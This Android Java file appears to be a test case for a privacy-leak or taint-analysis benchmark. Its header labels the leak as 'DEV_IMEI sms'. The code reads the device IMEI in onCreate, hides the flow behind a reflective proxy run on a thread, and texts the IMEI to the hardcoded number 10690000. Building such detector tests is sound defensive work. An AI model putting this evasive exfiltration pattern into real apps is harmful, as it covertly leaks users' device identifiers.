// about       A thread runs a proxy, whose handler sends what it was made with.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Runnable task = (Runnable) Proxy.newProxyInstance(
        getClassLoader(), new Class<?>[] {Runnable.class}, new Late(phone.getDeviceId()));
    new Thread(task).start();
  }
}

class Late implements InvocationHandler {
  private final String text;

  Late(String text) {
    this.text = text;
  }

  @Override
  public Object invoke(Object proxy, Method method, Object[] arguments) {
    String said = text;
    SmsManager.getDefault().sendTextMessage("10690000", null, "run " + said, null, null);
    return text.isEmpty() ? proxy : null;
  }
}
